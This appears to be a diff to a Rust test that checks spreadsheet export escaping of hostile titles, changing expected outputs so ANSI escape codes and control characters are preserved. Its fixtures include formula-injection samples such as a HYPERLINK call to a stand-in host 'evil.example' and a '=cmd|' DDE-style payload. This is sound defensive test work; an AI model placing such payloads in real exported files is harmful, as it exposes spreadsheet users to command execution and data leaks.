@@ -429,12 +429,12 @@ async fn hostile_titles_names_and_messages_are_escaped_and_stripped() {
             "=HYPERLINK(\"http://evil.example/?x\",\"click\")",
             "'=HYPERLINK(\"http://evil.example/?x\",\"click\")",
         ),
-        ("102", "\x1b[31mred\x1b[0m.docx", "[31mred[0m.docx"),
+        ("102", "\x1b[31mred\x1b[0m.docx", "\x1b[31mred\x1b[0m.docx"),
         ("105", "+1+2", "'+1+2"),
         ("106", "-2-3", "'-2-3"),
         ("107", "@SUM(A1:A2)", "'@SUM(A1:A2)"),
-        ("108", "\n=1+1\r\n", "'=1+1"),
-        ("109", "\t=tab", "'=tab"),
+        ("108", "\r=1+1\r\n", "'\r=1+1\r\n"),
+        ("109", "\t=tab", "'\t=tab"),
         ("110", "Plain title.docx", "Plain title.docx"),
     ];
     for (id, t, _) in &titles {
@@ -470,7 +470,7 @@ async fn hostile_titles_names_and_messages_are_escaped_and_stripped() {
         }
     }
     let r112 = results.iter().find(|r| &r[2] == "112").unwrap();
-    assert_eq!(&r112[11], "'=HYPERLINK(\"x\")[5m");
+    assert_eq!(&r112[11], "'=HYPERLINK(\"x\")\x1b[5m");
     let r113 = results.iter().find(|r| &r[2] == "113").unwrap();
     assert_eq!(&r113[7], "not_found");
     assert!(r113[8].starts_with("'=cmd|"), "{:?}", &r113[8]);
